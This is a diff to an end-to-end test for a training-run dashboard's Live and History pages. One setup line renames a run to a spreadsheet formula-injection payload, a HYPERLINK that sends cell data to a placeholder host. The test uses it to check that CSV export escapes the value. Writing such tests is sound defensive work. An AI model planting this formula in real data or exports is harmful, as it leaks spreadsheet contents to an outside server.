@@ -5,35 +5,31 @@
 // with `cohort run --tag/--notes` (item 11). The run is a real tiny local run made by
 // the real CLI in the dashboard's data directory. Screenshot of Live at 1280×800.
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { RunMeta } from '../../electron/common';
-import { openDashboard, type Dashboard } from './open-dashboard';
-import { CHROMIUM, ROOT } from './serve-process';
-
-const ARTIFACTS = join(ROOT, 'test-artifacts');
+import { useDashboard } from './open-dashboard';
+import { ARTIFACTS, CHROMIUM, ROOT } from './serve-process';
 
 describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => {
-  let dash: Dashboard;
   let env: NodeJS.ProcessEnv;
   let runId = '';
   const cohort = (args: string[]) => spawnSync(process.execPath, [join(ROOT, 'bin', 'cohort.mjs'), ...args], { env, encoding: 'utf8', timeout: 180_000 });
 
+  // A fresh page for each case (they stand alone: each opens History from the start).
+  const ui = useDashboard({ page: 'case' });
   beforeAll(async () => {
-    mkdirSync(ARTIFACTS, { recursive: true });
-    dash = await openDashboard();
-    env = { ...process.env, COHORT_DATA_DIR: dash.serve.dataDir, COHORT_CONFIG_DIR: join(dash.serve.dataDir, '..', 'config'), NO_COLOR: '1' };
+    env = { ...ui().serve.env, NO_COLOR: '1' };
     const r = cohort(['run', '--local', '--stem', 'cifar', '--image-size', '8', '--batch-size', '2', '--classes', '10', '--steps', '6', '--log-steps', '1', '--warmup-steps', '0', '--tag', 'baseline', '--notes', 'before the change', '--json']);
     expect(r.status, r.stderr).toBe(0);
     runId = (JSON.parse(r.stdout.split('\n')[0]!) as { runId: string }).runId;
     const ren = cohort(['runs', 'rename', runId, '--', '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")']);
     expect(ren.status, ren.stderr).toBe(0);
   }, 240_000);
-  afterAll(() => dash?.dispose());
 
   it('Live leads with the median of a finished run, the last window below it', async () => {
-    const { page, serve } = dash;
+    const { page, serve } = ui();
     const meta = JSON.parse(readFileSync(join(serve.dataDir, 'runs', runId, 'meta.json'), 'utf8')) as RunMeta;
     const lastWindow = (readFileSync(join(serve.dataDir, 'runs', runId, 'events.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; globalSamplesPerSec?: number }).filter((e) => e.type === 'step').at(-1)!).globalSamplesPerSec!;
     await page.goto(serve.url);
@@ -47,7 +43,7 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
   }, 120_000);
 
   it('History shows the tags given at launch, the notes as the tooltip', async () => {
-    const { page } = dash;
+    const { page } = ui();
     await page.getByTestId('nav-history').click();
     const tags = page.locator(`[data-testid=history-row][data-run-id="${runId}"]`).getByTestId('run-tags');
     await expect.poll(() => tags.textContent(), { timeout: 30_000 }).toBe('#baseline · notes');
@@ -55,7 +51,7 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
   }, 60_000);
 
   it("History's Export CSV writes the formula-like name with a leading quote", async () => {
-    const { page } = dash;
+    const { page } = ui();
     await page.getByTestId('nav-history').click();
     const [d] = await Promise.all([page.waitForEvent('download', { timeout: 15_000 }), page.getByTestId('export-csv').click()]);
     const text = readFileSync((await d.path())!, 'utf8');
